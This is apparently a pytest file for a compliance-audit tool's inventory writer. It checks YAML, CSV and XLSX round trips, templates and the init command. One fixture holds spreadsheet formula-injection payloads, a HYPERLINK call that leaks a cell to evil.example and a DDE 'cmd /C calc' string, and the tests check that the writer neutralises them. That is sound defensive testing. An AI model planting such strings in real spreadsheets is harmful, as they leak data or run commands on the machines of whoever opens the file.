"""The inventory writer: what it writes in each format loads back with load_inventory unchanged,
spreadsheet formulas in portal text are neutralised, and templates carry their explanations."""

from __future__ import annotations

import dataclasses
import json
from datetime import date
from pathlib import Path

import pytest
import yaml
from openpyxl import load_workbook
from openpyxl.cell.cell import Cell
from openpyxl.utils import get_column_letter

from compliance_audit.errors import InputError
from compliance_audit.inventory import Inventory, load_inventory, sidecar_path
from compliance_audit.inventory.fields import BUREAU_SHEET, FIELD_LABELS, ITEM_FIELDS, VALIDITY_VALUES
from compliance_audit.inventory.model import Bureau, Column, Item
from compliance_audit.inventory.writer import (
    HELP_SHEET_TITLE,
    SHEET_TITLE,
    write_inventory,
    write_template,
)
from tests.helpers import EXAMPLE, run_cli

FORMATS = ("yaml", "csv", "xlsx")


def _comparable(item: Item) -> dict[str, object]:
    values = dataclasses.asdict(item)
    del values["row"]  # the item's place in its own file
    return values


@pytest.fixture(scope="module")
def example() -> Inventory:
    return load_inventory(EXAMPLE)


@pytest.mark.parametrize("suffix", FORMATS)
def test_round_trip_keeps_bureau_items_and_fields(example: Inventory, tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"清单.{suffix}"
    written = write_inventory(path, example.bureau, example.items, example.fields_present)

    # a workbook carries the bureau in its 公开主体 sheet; only a CSV needs the sidecar
    assert written == ([path, sidecar_path(path)] if suffix == "csv" else [path])
    loaded = load_inventory(path)
    assert loaded.bureau == example.bureau
    assert [_comparable(item) for item in loaded.items] == [_comparable(item) for item in example.items]
    assert loaded.fields_present == example.fields_present | {"title", "published"}


@pytest.mark.parametrize("suffix", FORMATS)
def test_written_rows_are_positions_in_the_file(example: Inventory, tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"清单.{suffix}"
    write_inventory(path, example.bureau, example.items[:3])

    rows = [item.row for item in load_inventory(path).items]
    if suffix == "yaml":
        text = path.read_text(encoding="utf-8").splitlines()
        assert [text[row - 1].lstrip().startswith("- ") for row in rows] == [True, True, True]
    else:
        assert rows == [2, 3, 4]  # the header is row 1


def test_csv_has_bom_and_chinese_headers(example: Inventory, tmp_path: Path) -> None:
    path = tmp_path / "清单.csv"
    write_inventory(path, example.bureau, example.items, example.fields_present)

    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    header = raw[3:].decode("utf-8").splitlines()[0].split(",")
    assert header[:6] == ["索引号", "标题", "主题分类", "发布机构", "成文日期", "发布日期"]
    sidecar = yaml.safe_load(sidecar_path(path).read_text(encoding="utf-8"))
    assert sidecar["bureau"]["name"] == "天水市秦州区司法局"
    assert {"name": "计划总结及报告", "kind": "plans"} in sidecar["bureau"]["columns"]


def test_xlsx_has_chinese_header_date_cells_and_an_explanation_sheet(
    example: Inventory, tmp_path: Path
) -> None:
    path = tmp_path / "清单.xlsx"
    write_inventory(path, example.bureau, example.items, example.fields_present)

    workbook = load_workbook(path)
    sheet = workbook[SHEET_TITLE]
    header = [cell.value for cell in sheet[1]]
    assert header == [FIELD_LABELS[name] for name in ITEM_FIELDS if name in example.fields_present]
    published = sheet.cell(row=2, column=header.index("发布日期") + 1)
    assert isinstance(published, Cell) and published.is_date and published.number_format == "yyyy-mm-dd"
    assert workbook.sheetnames == [SHEET_TITLE, BUREAU_SHEET, HELP_SHEET_TITLE]


UNTRUSTED = {
    "title": '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")',
    "publisher": "+86 0938 县司法局",
    "topic": "-综合政务",
    "doc_no": "@SUM(1+1)*cmd|' /C calc'!A0",
    "summary": "\t=1+1",
}


def _untrusted_item() -> Item:
    return Item(
        row=1,
        published=date(2021, 2, 1),
        title=UNTRUSTED["title"],
        publisher=UNTRUSTED["publisher"],
        topic=UNTRUSTED["topic"],
        doc_no=UNTRUSTED["doc_no"],
        summary=UNTRUSTED["summary"],
    )


def test_csv_neutralises_formulas_and_reads_back_the_text(tmp_path: Path) -> None:
    path = tmp_path / "清单.csv"
    write_inventory(path, Bureau("某县司法局"), [_untrusted_item()], set(UNTRUSTED))

    text = path.read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text and "'+86" in text and "'-综合政务" in text and "'@SUM" in text
    item = load_inventory(path).items[0]
    # a spreadsheet shows the text without the guarding apostrophe, and so does the reader
    assert item.title == UNTRUSTED["title"]
    assert item.publisher == UNTRUSTED["publisher"]
    assert item.doc_no == UNTRUSTED["doc_no"]
    assert item.summary == UNTRUSTED["summary"].strip()  # the loader trims surrounding whitespace


def test_xlsx_stores_formula_like_text_as_quoted_text(tmp_path: Path) -> None:
    path = tmp_path / "清单.xlsx"
    write_inventory(path, Bureau("某县司法局"), [_untrusted_item()], set(UNTRUSTED))

    sheet = load_workbook(path)[SHEET_TITLE]
    cells = list(sheet[2])
    assert all(cell.data_type != "f" for cell in cells)
    header = [cell.value for cell in sheet[1]]
    title = cells[header.index("标题")]
    assert title.value == UNTRUSTED["title"] and title.quotePrefix
    item = load_inventory(path).items[0]
    assert (item.title, item.publisher, item.topic, item.doc_no) == (
        UNTRUSTED["title"],
        UNTRUSTED["publisher"],
        UNTRUSTED["topic"],
        UNTRUSTED["doc_no"],
    )


def test_unknown_suffix_is_bad_input(tmp_path: Path) -> None:
    with pytest.raises(InputError, match=r"不支持的清单输出格式“\.json”"):
        write_inventory(tmp_path / "清单.json", Bureau("某县司法局"), [])


def _template_bureau() -> Bureau:
    return Bureau(
        "天水市秦州区司法局",
        "county",
        "甘肃省天水市秦州区",
        "justice",
        columns=(Column("工作动态", "news"),),
    )


def test_xlsx_template(tmp_path: Path) -> None:
    path = tmp_path / "模板.xlsx"
    assert write_template(path, _template_bureau()) == [path]

    workbook = load_workbook(path)
    sheet = workbook[SHEET_TITLE]
    header = [cell.value for cell in sheet[1]]
    assert header == [FIELD_LABELS[name] for name in ITEM_FIELDS]
    assert sheet.max_row == 1
    for name in ("formed", "published", "valid_until"):
        letter = get_column_letter(ITEM_FIELDS.index(name) + 1)
        assert sheet.column_dimensions[letter].number_format == "yyyy-mm-dd"
    validity = get_column_letter(ITEM_FIELDS.index("validity") + 1)
    (choice,) = sheet.data_validations.dataValidation
    assert choice.type == "list"
    assert choice.formula1 == '"' + ",".join(VALIDITY_VALUES) + '"'
    assert str(choice.sqref).startswith(f"{validity}2:{validity}")
    help_rows = list(workbook[HELP_SHEET_TITLE].iter_rows(values_only=True))
    assert help_rows[0] == ("列名", "字段", "必填", "说明", "示例")
    explained = {row[1]: row for row in help_rows[1 : len(ITEM_FIELDS) + 1]}
    assert set(explained) == set(ITEM_FIELDS)
    assert explained["published"][2] == "是" and explained["doc_no"][2] is None
    assert "有效、失效、废止、已修改" in str(explained["validity"][3])
    assert explained["formed"][4] == "2021-01-20"
    loaded = load_inventory(path)
    assert loaded.items == [] and loaded.bureau == _template_bureau()


def test_csv_template_is_a_header_and_a_commented_sidecar(tmp_path: Path) -> None:
    path = tmp_path / "模板.csv"
    write_template(path, _template_bureau())

    assert path.read_text(encoding="utf-8-sig").strip() == ",".join(
        FIELD_LABELS[name] for name in ITEM_FIELDS
    )
    sidecar = sidecar_path(path).read_text(encoding="utf-8")
    assert sidecar.startswith("# 模板.csv 的公开主体信息")
    assert "#   发布日期（必填）：在网站上公开的日期" in sidecar
    assert load_inventory(path).bureau == _template_bureau()


def test_yaml_template_explains_every_field_and_loads(tmp_path: Path) -> None:
    path = tmp_path / "模板.yaml"
    assert write_template(path, _template_bureau()) == [path]

    text = path.read_text(encoding="utf-8")
    for name in ITEM_FIELDS:
        assert f"#   {name}（{FIELD_LABELS[name]}）" in text
    assert "#   title: 秦州区司法局关于印发《行政执法公示制度实施办法》的通知" in text
    loaded = load_inventory(path)
    assert loaded.items == [] and loaded.bureau == _template_bureau()


def test_template_without_a_name_asks_for_it_when_loaded(tmp_path: Path) -> None:
    path = tmp_path / "模板.yaml"
    write_template(path, Bureau(""))

    text = path.read_text(encoding="utf-8")
    assert "#   name：必填" in text and "#   profile：职能档案" in text
    result = run_cli("audit", path)
    assert result.exit_code == 2
    assert "bureau.name" in result.stderr


@pytest.mark.parametrize("suffix", FORMATS)
def test_init_command_writes_each_format(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"模板.{suffix}"
    result = run_cli("init", "-o", path, "--bureau-name", "天水市秦州区司法局", "--sector", "justice")

    assert result.exit_code == 0, result.output
    assert f"已写出 {path}" in result.stderr
    loaded = load_inventory(path)
    assert (loaded.bureau.name, loaded.bureau.sector, loaded.items) == ("天水市秦州区司法局", "justice", [])


def test_init_refuses_to_overwrite_without_force(tmp_path: Path) -> None:
    path = tmp_path / "清单.csv"
    path.write_text("标题,发布日期\n已有的信息,2021-02-01\n", encoding="utf-8")

    refused = run_cli("init", "-o", path, "--bureau-name", "某县司法局")
    assert refused.exit_code == 2
    assert "文件已存在，不会覆盖" in refused.stderr
    assert "已有的信息" in path.read_text(encoding="utf-8")
    forced = run_cli("init", "-o", path, "--bureau-name", "某县司法局", "--force")
    assert forced.exit_code == 0
    assert "已有的信息" not in path.read_text(encoding="utf-8-sig")


def test_init_rejects_a_bad_sector_and_suffix(tmp_path: Path) -> None:
    bad_sector = run_cli("init", "-o", tmp_path / "模板.yaml", "--sector", "司法")
    assert bad_sector.exit_code == 2 and "sector" in bad_sector.stderr
    bad_suffix = run_cli("init", "-o", tmp_path / "模板.docx")
    assert bad_suffix.exit_code == 2 and "不支持的清单输出格式" in bad_suffix.stderr


def test_xlsx_template_carries_the_bureau_sheet_with_profile_and_functions(tmp_path: Path) -> None:
    path = tmp_path / "模板.xlsx"
    result = run_cli(
        "init", "-o", path, "--bureau-name", "天水市秦州区司法局", "--sector", "justice",
        "--profile", "county-justice-bureau", "--functions", "normative-documents,licensing",
    )  # fmt: skip
    assert result.exit_code == 0, result.stderr
    assert not sidecar_path(path).exists()
    rows = {row[0]: row[1:] for row in load_workbook(path)[BUREAU_SHEET].iter_rows(values_only=True)}
    assert rows["职能档案"][0] == "county-justice-bureau"
    assert rows["职能"][0] == "normative-documents、licensing"
    assert "默认档案" in str(rows["职能档案"][1])
    bureau = load_inventory(path).bureau
    assert (bureau.profile, bureau.functions) == (
        "county-justice-bureau",
        ("normative-documents", "licensing"),
    )


def test_a_filled_in_workbook_travels_without_a_sidecar(tmp_path: Path) -> None:
    path = tmp_path / "清单.xlsx"
    assert run_cli("init", "-o", path).exit_code == 0
    workbook = load_workbook(path)
    facts = workbook[BUREAU_SHEET]
    for row in facts.iter_rows(min_row=2):
        label = row[0].value
        row[1].value = {
            "名称": "天水市秦州区司法局",
            "层级": "县级",
            "领域": "justice",
            "栏目": "工作动态=news、通知公告=notice",
        }.get(str(label), row[1].value)
    items = workbook[SHEET_TITLE]
    title, published = ITEM_FIELDS.index("title") + 1, ITEM_FIELDS.index("published") + 1
    items.cell(row=2, column=title, value="秦州区司法局召开2021年全区司法行政工作会议")
    items.cell(row=2, column=published, value="2021-02-24")
    workbook.save(path)

    loaded = load_inventory(path)
    assert (loaded.bureau.name, loaded.bureau.level, loaded.bureau.sector) == (
        "天水市秦州区司法局",
        "county",
        "justice",
    )
    assert [column.kind for column in loaded.bureau.columns] == ["news", "notice"]
    result = run_cli("audit", path, "--as-of", "2021-03-10", "--format", "json", "--fail-on", "never")
    assert result.exit_code == 0, result.stderr
    report = json.loads(result.output)
    assert (
        report["bureau"]["profile"] == "county-justice-bureau"
        and report["bureau"]["profile_source"] == "default"
    )
